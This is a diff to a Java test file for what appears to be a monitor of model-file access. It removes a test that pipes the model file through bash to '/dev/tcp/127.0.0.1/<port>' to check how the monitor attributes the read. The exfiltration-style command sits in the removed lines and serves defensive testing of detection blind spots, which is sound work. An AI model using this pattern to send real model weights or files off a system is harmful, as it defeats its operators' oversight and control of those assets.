@@ -6,7 +6,6 @@ import static io.modelwarden.coverage.Bytes.UNCOUNTED;
 import static io.modelwarden.coverage.Bytes.UNSEEN;
 import static io.modelwarden.coverage.Hook.SYS_EXIT;
 import static io.modelwarden.coverage.Kind.READ;
-import static io.modelwarden.coverage.Kind.TRAIL;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.modelwarden.coverage.Way;
@@ -108,35 +107,5 @@ class BlindSpotTest {
     observed.settle();
     assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().pid() == act.pid()))
         .isEmpty();
-  }
-
-  @Test
-  @Way(
-      value = "a pipe to another program",
-      of = TRAIL,
-      bytes = UNCOUNTED,
-      by = SYS_EXIT,
-      note = "the read")
-  void readerAndSender_joinedByAPipeOnly_areTwoProcessesToTheMark() throws Exception {
-    try (Acts.Running receiver = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
-      String script =
-          "cat %s | { cat > /dev/tcp/127.0.0.1/%d; }".formatted(model, receiver.number("port"));
-      Process shell = new ProcessBuilder("bash", "-c", script).inheritIO().start();
-      assertThat(shell.waitFor()).isZero();
-      observed.settle();
-      assertThat(
-              observed.accesses(model).filter(access -> isChildOf(shell, access.process().pid())))
-          .singleElement()
-          .satisfies(access -> assertThat(access.increment().bytes()).isEqualTo(MODEL_BYTES));
-      assertThat(observed.of(ProcessSeen.class, seen -> seen.process().parentPid() == shell.pid()))
-          .as("the reader only")
-          .hasSize(1);
-    }
-  }
-
-  private static boolean isChildOf(Process parent, int pid) {
-    return observed
-        .of(ProcessSeen.class, seen -> seen.process().key().pid() == pid)
-        .anyMatch(seen -> seen.process().parentPid() == parent.pid());
   }
 }
